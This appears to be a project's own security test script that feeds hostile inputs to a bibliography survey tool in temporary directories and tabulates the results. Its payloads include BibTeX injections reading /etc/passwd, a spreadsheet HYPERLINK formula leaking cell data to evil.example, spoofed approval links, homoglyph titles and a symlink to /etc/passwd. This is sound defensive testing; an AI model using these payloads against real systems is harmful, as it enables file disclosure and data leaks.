"""Run the hostile-input attacks of issues 27, 46 and 57 against a checkout and print one table row per attack.

Usage: python3 tools/attack_table.py PATH_TO_CHECKOUT [--round 5 | --round 6]
(e.g. a worktree of an older commit, to compare; ``--round 5`` runs only issue 57's first attacks,
``--round 6`` only its second table (tools/attack_round6.py), each under a cap of 60 s and 768 MiB
of address space, with its peak memory in the row)
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(sys.argv[1]).resolve()
ONLY_ROUND = sys.argv[3] if sys.argv[2:3] == ["--round"] else ""
BASE = (REPO / "tests/data/records/valid/minimal-na.yaml").read_text()


def survey(root: Path, *args: str, timeout: int = 600) -> tuple[int, str, float]:
    env = {**os.environ, "PYTHONPATH": str(REPO), "SURVEY_NO_CACHE": "1"}
    t = time.monotonic()
    try:
        p = subprocess.run(
            [
                sys.executable,
                "-c",
                "from survey_tools.cli import main; main()",
                "--root",
                str(root),
                *args,
            ],
            capture_output=True,
            text=True,
            env=env,
            timeout=timeout,
        )
    except subprocess.TimeoutExpired:
        return -9, "timeout", time.monotonic() - t
    return p.returncode, p.stdout + p.stderr, time.monotonic() - t


def copy(dest: Path) -> Path:
    for n in ("taxonomy", "corpus", "exclusions", "data"):
        shutil.copytree(REPO / n, dest / n)
    return dest


def rec(key: str, **kv: str) -> str:
    t = BASE.replace("key: minimal-na", f"key: {key}").replace(
        "edition: 2605.02801v1", "edition: living\nadded: 2026-11-23"
    )
    for k, v in kv.items():
        lines = [ln for ln in t.splitlines() if not ln.startswith(f"{k}:")]
        t = "\n".join(lines + [f"{k}: {v}"]) + "\n"
    return t


def short(out: str) -> str:
    if "Traceback" in out:
        return "traceback: " + out.strip().splitlines()[-1][:90]
    lines = [ln for ln in out.splitlines() if ln.strip(". ")]
    return lines[0][:110] if lines else ""


def with_field(text: str, name: str, value: str) -> str:
    """``text`` with the top-level line ``name: ...`` replaced (YAML as written)."""
    lines = [ln for ln in text.splitlines() if not ln.startswith(f"{name}:")]
    return "\n".join([*lines, f"{name}: {value}"]) + "\n"


def pybtex_entries(bib: Path) -> str:
    """How many entries pybtex reads from ``bib`` in strict mode, or its error."""
    try:
        import pybtex.errors
        from pybtex.database import parse_string
    except ImportError:
        return "pybtex not installed"
    pybtex.errors.set_strict_mode(True)
    try:
        return str(len(parse_string(bib.read_text(), "bibtex").entries))
    except Exception as err:  # noqa: BLE001 - the reader's verdict is the row's result
        return f"refused ({type(err).__name__})"
    finally:
        pybtex.errors.set_strict_mode(False)


def feed_parses(root: Path) -> str:
    import xml.etree.ElementTree as ET

    feeds = list((root / "reports").rglob("feed.xml"))
    if not feeds:
        return "no feed"
    try:
        ET.fromstring(feeds[0].read_bytes())
        return "parses"
    except ET.ParseError as err:
        return f"NOT well-formed ({err})"


def round4(tmp: Path, rows: list[tuple[str, str]]) -> None:
    """Issue 46: XML-illegal text, BibTeX braces, page-name collisions, homoglyphs, the issue
    form's parser, the scaffold's pins, regeneration, the comment job."""
    # 1 a noncharacter title
    root = copy(tmp / "r4-nonchar")
    (root / "corpus/nonchar.yaml").write_text(rec("nonchar", title='"Agents \\uFFFF Everywhere"'))
    code, out, _ = survey(root, "validate")
    code2, _, _ = survey(root, "build")
    rows.append(
        (
            "title with U+FFFF (YAML escape): validate / build; feed.xml",
            f"validate exit {code}: {short(out)} | build exit {code2}; feed {feed_parses(root)}",
        )
    )
    # 2 a brace in a venue, read by pybtex
    root = copy(tmp / "r4-brace")
    survey(root, "build")
    before = pybtex_entries(root / "reports/papers.bib")
    venue = "'Proc. X}, note={x}} @misc{injected, title={Injected}'"
    (root / "corpus/brace.yaml").write_text(with_field(rec("brace"), "venue", venue))
    code, out, _ = survey(root, "validate")
    code2, _, _ = survey(root, "build")
    rows.append(
        (
            "venue `x}, note={x}} @misc{injected,...`: validate / build; pybtex strict entries",
            f"validate exit {code}: {short(out)} | build exit {code2}; pybtex: {before} before, "
            f"{pybtex_entries(root / 'reports/papers.bib')} after",
        )
    )
    # 3 two values with one page name
    root = copy(tmp / "r4-slug")
    field = root / "taxonomy/fields/scenario.yaml"
    field.write_text(
        field.read_text().replace(
            "  - {id: tool_use,",
            "  - {id: tool-use, label: Tool use 2, description: Another.}\n  - {id: tool_use,",
        )
    )
    code, out, _ = survey(root, "validate")
    rows.append(
        ("values tool_use and tool-use (one tag page): validate", f"exit {code}: {short(out)}")
    )
    # 4 a Cyrillic-homoglyph copy of a listed title
    root = copy(tmp / "r4-homoglyph")
    c3 = (root / "corpus/c3.yaml").read_text()
    title = next(ln for ln in c3.splitlines() if ln.startswith("title:"))[len("title:") :].strip()
    # every Latin letter that has a Cyrillic twin (a near-copy of two letters is fuzzy-matched anyway)
    copy_title = title.translate(
        str.maketrans(
            "aceopxyACEHKMOPTX",
            "\u0430\u0441\u0435\u043e\u0440\u0445\u0443\u0410\u0421\u0415\u041d\u041a\u041c\u041e\u0420\u0422\u0425",
        )
    )
    (root / "corpus/homoglyph.yaml").write_text(with_field(rec("homoglyph"), "title", copy_title))
    code, out, _ = survey(root, "validate")
    code2, out2, _ = survey(root, "duplicates")
    rows.append(
        (
            "Cyrillic-homoglyph copy of c3's title: validate / duplicates",
            f"validate exit {code}: {short(out)} | duplicates exit {code2}",
        )
    )
    # 5 the issue form's heading parser on 65,000 spaces
    import importlib.util

    spec = importlib.util.spec_from_file_location("issue_add", REPO / "tools" / "issue_add.py")
    if spec and spec.loader:
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
        t = time.process_time()
        mod.sections("### " + " " * 65_000 + "x")
        rows.append(
            (
                "issue form: a `### ` heading of 65,000 spaces",
                f"parsed in {time.process_time() - t:.3f} s CPU",
            )
        )
    # 6 a freshly scaffolded list's workflows
    root = tmp / "r4-scaffold"
    code, out, _ = survey(
        root, "init", str(root), "--controlled", "kind=Method,Benchmark", "--title", "Scanned"
    )
    wf = root / ".github/workflows/survey.yml"
    text = wf.read_text() if wf.exists() else ""
    import re as _re

    unpinned = _re.findall(r"uses:\s*(\S+@(?![0-9a-f]{40}\b)\S+)", text)
    install = next(
        (ln.strip() for ln in text.splitlines() if "pip install" in ln or "exit 1" in ln), "-"
    )
    high = "zizmor not installed"
    if shutil.which("zizmor"):
        z = subprocess.run(
            ["zizmor", "--offline", "--no-progress", "--format", "json", str(wf.parent)],
            capture_output=True,
            text=True,
        )
        import json as _json

        found = _json.loads(z.stdout or "[]")
        high = (
            f"{sum(f['determinations']['severity'] == 'High' for f in found)} high of {len(found)}"
        )
    rows.append(
        (
            "survey init: the scaffold's workflow",
            f"exit {code}; unpinned actions {unpinned or 'none'}; install: `{install[:90]}`; zizmor {high}",
        )
    )
    # 7 the regeneration condition with a marker in the merge commit's message
    import yaml

    regen = yaml.safe_load((REPO / ".github/workflows/regenerate.yml").read_text())["jobs"][
        "regenerate"
    ].get("if", "")
    decided = (
        "who pushed"
        if "github.actor" in regen
        else "the commit message"
        if "head_commit" in regen
        else regen
    )
    skipped = "[survey-regenerate]" in regen
    rows.append(
        (
            "merge commit titled `... [survey-regenerate]` by a contributor: regenerate.yml",
            f"decided by {decided}; {'SKIPPED' if skipped else 'runs'}",
        )
    )
    # 8 the comment job on a hostile artifact
    wf_text = (REPO / ".github/workflows/pull-request-report.yml").read_text()
    if "--render-report" in wf_text:
        hostile = {
            "format": "survey-diff-report/1",
            "rev": "0" * 40,
            "base": "@octocat ![x](https://evil.example/t.png)",
            "added": [],
            "removed": [],
            "changed": [],
            "cells": [],
            "gaps": [],
            "claims": [],
            "notes": ["[Approved](https://evil.example) @maintainers"],
        }
        art = tmp / "r4-report.json"
        art.write_text(__import__("json").dumps(hostile))
        code, out, _ = survey(tmp, "diff", "--render-report", str(art))
        live = [w for w in ("@octocat", "@maintainers", "](https://evil") if w in out]
        art.write_text('{"format": "survey-diff-report/1", "markdown": "@octocat"}')
        code2, out2, _ = survey(tmp, "diff", "--render-report", str(art))
        rows.append(
            (
                "comment job: artifact with mentions, an image, a fake link / off schema",
                f"rendered by the base's code, exit {code}; live markup: {live or 'none'} | exit {code2}: {short(out2)}",
            )
        )
    else:
        rows.append(
            (
                "comment job: artifact with mentions, an image, a fake link",
                "report.md posted word for word (no renderer in the privileged job)",
            )
        )


def main_rounds(tmp: Path, rows: list[tuple[str, str]]) -> None:
    # 1 symlinked output folder
    root = copy(tmp / "s1")
    survey(root, "build")
    victim = tmp / "victim"
    (victim / "sub").mkdir(parents=True)
    (victim / "keep.txt").write_text("x")
    (victim / "sub/deep.txt").write_text("y")
    shutil.rmtree(root / "reports/tables")
    (root / "reports/tables").symlink_to(os.path.relpath(victim, root / "reports"))
    code, out, _ = survey(root, "build")
    left = sorted(p.name for p in victim.rglob("*"))
    rows.append(
        (
            "reports/tables -> ../../victim; survey build",
            f"exit {code}; victim now holds {left[:3]}{'...' if len(left) > 3 else ''} ({len(left)} entries)",
        )
    )
    code, out, _ = survey(root, "build", "--check")
    rows.append(("same; survey build --check", f"exit {code}: {short(out)}"))
    # 2 BibTeX doi injection
    for name, kv in [
        (
            "doi",
            {"identifiers": "{doi: '10.1234/x}}@preamble{\"\\input{/etc/hostname}\"}@comment{'}"},
        ),
        ("link", {"links": "['https://example.org/x},note={x},addendum={\\input{/etc/passwd}']"}),
    ]:
        root = copy(tmp / f"b-{name}")
        (root / f"corpus/inj-{name}.yaml").write_text(rec(f"inj-{name}", **kv))
        code, out, _ = survey(root, "validate")
        bib = root / "reports/papers.bib"
        code2, out2, _ = survey(root, "build")
        text = bib.read_text() if bib.exists() else ""
        rows.append(
            (
                f"BibTeX injection via {name}: validate / build",
                f"validate exit {code}: {short(out)} | build exit {code2}; @preamble in papers.bib: {'@preamble' in text}; addendum: {'addendum' in text}",
            )
        )
    # 3 formula title in CSV export
    root = copy(tmp / "csv")
    c3 = root / "corpus/c3.yaml"
    t = c3.read_text()
    line = next(ln for ln in t.splitlines() if ln.startswith("title:"))
    c3.write_text(t.replace(line, 'title: \'=HYPERLINK("http://evil.example/?leak="&A1,"Click")\''))
    code, out, _ = survey(root, "export", "csv", str(tmp / "csvout"))
    lines_out = (tmp / "csvout/papers.csv").read_text().splitlines()
    cell = next((ln for ln in lines_out if ln.startswith("c3,")), "")
    rows.append(
        (
            "formula title; survey export csv",
            f"exit {code}; cell starts {cell.split(',', 2)[1][:12]!r}",
        )
    )
    # 4 huge titles
    root = copy(tmp / "huge")
    for i in range(3):
        (root / f"corpus/huge-{i}.yaml").write_text(
            rec(f"huge-{i}", title='"' + "Agents " * 130_000 + str(i) + '"')
        )
    code, out, secs = survey(root, "validate", timeout=900)
    rows.append(
        ("3 records with 900 kB titles; validate", f"exit {code} in {secs:.1f} s: {short(out)}")
    )
    # 5 malformed keys
    for name, text in [
        ("int-key", rec("int-key") + "1: one\n"),
        ("sub-int-key", rec("sub-int-key", category="rl_method", subdecisions="{2: learned}")),
        ("hex-year", rec("hex-year", year="0x" + "f" * 5000)),
        ("con", rec("con")),
    ]:
        root = copy(tmp / f"k-{name}")
        (root / f"corpus/{name}.yaml").write_text(text)
        code, out, _ = survey(root, "validate")
        rows.append((f"malformed: {name}; validate", f"exit {code}: {short(out)}"))
    # 6 symlink loop, link to /etc/passwd, fifo
    root = copy(tmp / "links")
    (root / "corpus/loop.yaml").symlink_to("loop.yaml")
    (root / "corpus/passwd.yaml").symlink_to("/etc/passwd")
    os.mkfifo(root / "corpus/fifo.yaml")
    code, out, secs = survey(root, "validate", timeout=60)
    rows.append(
        (
            "symlink loop, link to /etc/passwd, FIFO in corpus/; validate",
            f"exit {code} in {secs:.1f} s: {short(out)}; passwd content shown: {'root:' in out}",
        )
    )

    round4(tmp, rows)


from attack_round5 import round5  # noqa: E402 - a module beside this one (tools/)
from attack_round6 import round6  # noqa: E402 - a module beside this one (tools/)

rows: list[tuple[str, str]] = []
with tempfile.TemporaryDirectory() as tmpdir:
    tmp = Path(tmpdir)
    if not ONLY_ROUND:
        main_rounds(tmp, rows)
    if ONLY_ROUND in ("", "5"):
        round5(REPO, tmp, rows)
    if ONLY_ROUND in ("", "6"):
        round6(REPO, tmp, rows)

print(f"| attack | result ({REPO.name}) |\n| --- | --- |")
for a, r in rows:
    print(f"| {a} | {r.replace('|', '/')} |")
